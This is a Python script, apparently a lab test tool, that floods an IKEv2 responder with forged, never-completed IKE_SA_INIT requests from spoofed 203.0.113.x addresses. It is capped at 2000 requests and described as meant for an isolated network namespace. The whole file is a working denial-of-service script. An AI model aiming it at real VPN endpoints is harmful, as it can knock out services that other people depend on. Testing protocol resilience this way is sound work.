"""Sends forged IKE_SA_INIT requests and never goes on with the handshake.

usage: flood.py RESPONDER FIRST COUNT [ADDRESSES]

The requests numbered FIRST to FIRST + COUNT - 1, of at most 2000. Every
second one comes from 203.0.113.1 and a port of its own, the others take
turns among ADDRESSES (200) addresses above it. SPIs, nonces and public keys
are hashes of the number, so the same numbers give the same octets. The
addresses have to be local ones ("ip route add local"); it is meant for a
network namespace that leads nowhere.
"""

import hashlib
import socket
import struct
import sys
import time

LIMIT = 2000
SA, KE, NONCE = 33, 34, 40
X25519 = 31


def octets(what, number):
    """32 octets that depend on nothing else."""
    return hashlib.sha256(f"{what} {number}".encode()).digest()


def payload(following, body):
    return struct.pack("!BBH", following, 0, 4 + len(body)) + body


def transform(last, kind, ident, attribute=b""):
    more = 0 if last else 3
    length = 8 + len(attribute)
    return struct.pack("!BBHBBH", more, 0, length, kind, 0, ident) + attribute


def proposal():
    """AES-GCM-16 with 128 bits, PRF-HMAC-SHA2-256, Curve25519."""
    transforms = (
        transform(False, 1, 20, struct.pack("!HH", 0x800E, 128))
        + transform(False, 2, 5)
        + transform(True, 4, X25519)
    )
    return struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms


def request(number):
    payloads = (
        payload(KE, proposal())
        + payload(NONCE, struct.pack("!HH", X25519, 0) + octets("key", number))
        + payload(0, octets("nonce", number))
    )
    spi = octets("spi", number)[:8]
    header = struct.pack("!8s8sBBBBII", spi, bytes(8), SA, 0x20, 34, 0x08, 0, 28 + len(payloads))
    return header + payloads


def source(number, addresses):
    if number % 2 == 0:
        return "203.0.113.1", 10000 + number
    return f"203.0.113.{2 + number // 2 % addresses}", 20000 + number


def main(responder, first, count, addresses=200):
    if first < 0 or first + count > LIMIT or not 0 < addresses <= 253:
        sys.exit(__doc__)
    # Kept open, so that the answers find somebody.
    sockets = []
    for number in range(first, first + count):
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.bind(source(number, addresses))
        one.sendto(request(number), (responder, 500))
        sockets.append(one)
        time.sleep(0.005)
    time.sleep(0.5)


if __name__ == "__main__":
    if len(sys.argv) not in (4, 5):
        sys.exit(__doc__)
    main(sys.argv[1], *map(int, sys.argv[2:]))
